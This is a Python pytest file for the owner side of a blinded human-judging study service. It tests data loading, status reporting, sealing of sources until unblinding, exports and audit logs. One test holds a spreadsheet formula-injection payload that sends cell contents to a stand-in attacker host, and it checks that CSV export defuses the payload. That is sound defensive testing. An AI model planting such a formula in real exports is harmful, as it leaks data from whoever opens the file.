"""The owner's side: what is loaded stays, counts tell nothing, sources come after unblinding."""

import csv
import io
import json

import pytest
from helpers.provenance import PLACE
from helpers.small_study import PEOPLE, SECRETS, answer_all, change_last, frames, on_both

from capo_core import schema
from capo_core.errors import ConfigError, DataError, StudyError
from capo_core.study.judging.judge import Terms
from capo_core.study.owner import export as owner_export
from capo_core.study.owner.service import StudyService
from capo_core.study.store.judge_guard import OffLimits
from capo_core.study.tables import JUDGMENTS, as_cell


def finished(study, **answer):
    """Two judges answer everything with the first answer; closed and unblinded."""
    for desk in study.judges(2):
        while hasattr(view := desk.next_trial(), "trial_id"):
            desk.answer(view.trial_id, view.answers[0], **answer)
    study.service.close("s1")
    study.service.unblind("s1")


def test_loading_twice_is_loading_once(study):
    assert study.service.load("s1", study.frames, "hash-1", study.terms) is False
    assert list(study.service.audit_log("s1")["event"]) == ["create"]
    assert study.service.names() == ["s1"]


def test_another_study_of_the_same_name_is_refused(study):
    with pytest.raises(StudyError, match="other contents"):
        study.service.load("s1", study.frames, "hash-2", study.terms)


def broken(change):
    made = {name: frame.copy() for name, frame in frames().items()}
    change(made)
    return made


def _drop_text(made):
    made["texts"] = made["texts"].iloc[1:]


def _drop_card(made):
    made["cards"] = made["cards"].iloc[1:]


def _unknown_trial(made):
    made["assignments"].loc[0, "trial_id"] = "T99"


def _slots(made):
    made["assignments"].loc[0, "order"] = as_cell({"cards": list(PEOPLE), "slots": [0, 1]})


def _no_cards(made):
    made["assignments"].loc[0, "order"] = as_cell({"cards": [], "slots": [0]})


def _null(made):
    made["texts"].loc[1, "explanation"] = "a\0b"


def _half(made):
    made["texts"].loc[1, "explanation"] = "a\ud800b"


def _no_table(made):
    del made["sealed"]


def _nobody(made):
    made["assignments"] = made["assignments"].iloc[:0]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_drop_text, "'XP1p' is not in the table"),
        (_drop_card, "'ann-1' is not in the table"),
        (_unknown_trial, "'T99' is not in the table"),
        (_slots, "shows slots"),
        (_no_cards, "0 cards"),
        (_null, "row 2, column 'explanation'"),
        (_half, "row 2, column 'explanation'"),
        (_no_table, "table sealed is missing"),
        (_nobody, "no judge has a trial"),
    ],
)
def test_what_a_judge_would_stumble_over_is_not_loaded(study, change, words):
    with pytest.raises(DataError, match=words):
        study.service.load("s2", broken(change), "h", Terms())
    assert study.service.names() == ["s1"]


def test_status_counts_and_tells_no_answer(study):
    one, _ = study.judges(2)
    (late,) = study.service.invite("s1", note="a reserve")
    answer_all(one, 3)
    status = study.service.status("s1")
    assert (status.state, status.filled, status.places) == ("open", 2, 8)
    assert status.by_kind == {"attribution": (1, 4), "comparison": (1, 4)}
    assert [(each.state, each.done, each.places) for each in status.judges] == [
        ("judging", 2, 4),
        ("judging", 0, 4),
        ("invited", 0, 0),
    ]
    assert status.judges[2].note == "a reserve" and late.token not in repr(status)
    for word in (*SECRETS, *PEOPLE, "left", "tie"):
        assert word not in repr(status)


def test_states_of_a_judge(study):
    def state():
        return study.service.status("s1").judges[0].state

    (desk,) = study.invite()
    assert state() == "invited"
    desk.open()
    assert state() == "opened"
    desk.consent()
    assert state() == "judging"
    desk.pause()
    assert state() == "paused"
    study.clock.forward(hours=1)
    assert state() == "away"
    desk.resume()
    answer_all(desk)
    assert state() == "done"
    study.service.revoke(study.service.status("s1").judges[0].judge_id)
    assert state() == "revoked"


def test_sources_stay_sealed_until_closed_and_unblinded(study):
    answer_all(*study.judges())
    for export in (study.service.export_judgments, study.service.export_history):
        with pytest.raises(StudyError, match="close it, then unblind it"):
            export("s1")
    with pytest.raises(StudyError, match="is open"):
        study.service.unblind("s1")
    study.service.close("s1")
    with pytest.raises(StudyError, match="unblind it"):
        study.service.export_judgments("s1")
    with pytest.raises(StudyError, match="closed"):
        study.service.invite("s1")
    study.service.unblind("s1")
    study.service.unblind("s1")
    study.service.close("s1")
    assert len(study.service.export_judgments("s1")) == 4
    events = list(study.service.audit_log("s1")["event"])
    assert events[-3:] == ["close", "unblind", "export"]


@on_both
def test_judgments_as_exported(study):
    finished(study, confidence="3")
    frame = study.service.export_judgments("s1")
    schema.check(frame, JUDGMENTS)
    assert len(frame) == 8 and set(frame["purpose"]) == {"main"}
    assert set(frame["confidence"]) == {"3"} and set(frame["changes"]) == {0}
    pairs = frame[frame["kind"] == "comparison"]
    assert set(zip(pairs["source_a"], pairs["source_b"], strict=True)) == {("capo", "zero_shot")}
    # All clicked left; J01 sees the sides turned, so that left is slot 1 for one of the two.
    assert sorted(pairs["answer"]) == ["a", "a", "b", "b"] and set(pairs["side"]) == {"left"}
    turned = pairs["displayed"].map(lambda cell: json.loads(cell)["slots"] == [1, 0])
    assert (pairs["answer"] == turned.map({True: "b", False: "a"})).all()
    assert set(zip(pairs["words_a"], pairs["words_b"], pairs["words"], strict=True)) == {(3, 5, 8)}
    single = frame[frame["kind"] == "attribution"]
    assert set(single["source"]) == {"capo"} and set(single["truth"]) == {"ann-1"}
    assert set(single["answer"]) == {"ann-3"} and set(single["words"]) == {3}
    assert (frame["duration_s"] > 0).all()
    with_practice = study.service.export_judgments("s1", practice=True)
    assert sorted(set(with_practice["purpose"])) == ["main", "practice"]


def test_a_changed_answer_counts_once_and_its_history_is_kept(study):
    (desk,) = study.judges()
    answer_all(desk, 1)
    view = desk.next_trial()
    study.clock.forward(seconds=30)
    desk.answer(view.trial_id, "A")
    desk.last_trial()
    study.clock.forward(seconds=12)
    desk.answer(view.trial_id, "B", replaces=True)
    study.service.close("s1")
    study.service.unblind("s1")
    (row,) = study.service.export_judgments("s1").itertuples()
    assert (row.answer, row.changes) == ("ann-1", 1)
    history = study.service.export_history("s1")
    assert list(history["answer"]) == ["ann-3", "ann-3", "ann-1"]
    assert list(history["withdrawn"] == "") == [True, False, True]
    # Both looks at the trial count; the ticks of the test's clock come on top.
    assert 42 <= row.duration_s <= 50


def test_formulas_in_reasons_do_nothing_in_a_spreadsheet(study):
    attack = '=HYPERLINK("http://evil.example?"&A1,"x")'
    finished(study, reason=attack)
    frame = study.service.export_judgments("s1")
    assert set(frame["reason"]) == {attack}
    cells = [
        row["reason"]
        for row in csv.DictReader(io.StringIO(owner_export.as_text(frame, "csv", PLACE)))
    ]
    assert cells == ["'" + attack] * 8
    lines = owner_export.as_text(frame, "jsonl", PLACE).splitlines()
    assert [json.loads(line)["reason"] for line in lines] == [attack] * 8
    with pytest.raises(ConfigError):
        owner_export.as_text(frame, "xlsx", PLACE)


def test_the_audit_tells_all_and_no_secret(study):
    (desk,) = study.judges()
    answer_all(desk, 2)
    change_last(desk)
    answer_all(desk)
    judge = study.service.status("s1").judges[0].judge_id
    made = study.service.new_link(judge)
    study.service.release(judge)
    study.service.revoke(judge)
    study.service.close("s1")
    study.service.unblind("s1")
    study.service.export_history("s1")
    log = study.service.audit_log("s1")
    assert set(log["event"]) == {
        "create", "invite", "open", "consent", "answer", "change", "release", "revoke",
        "close", "unblind", "export",
    }  # fmt: skip
    assert list(log["at"]) == sorted(log["at"])
    told = log.to_csv()
    for secret in (desk.token, made.token, "capo", "zero_shot", "ann-"):
        assert secret not in told


def test_the_judges_engine_is_not_the_owners(study):
    with pytest.raises(OffLimits):
        StudyService(study.judge_engine)


def test_studies_do_not_mix(study):
    study.service.load("s2", frames(main=2), "other", Terms())
    (made,) = study.service.invite("s2")
    desk = study.desk(made.token)
    desk.consent()
    assert len(answer_all(desk)) == 3
    assert study.service.status("s1").filled == 0 and study.service.status("s2").filled == 2
    assert desk.next_trial().reason == "done"
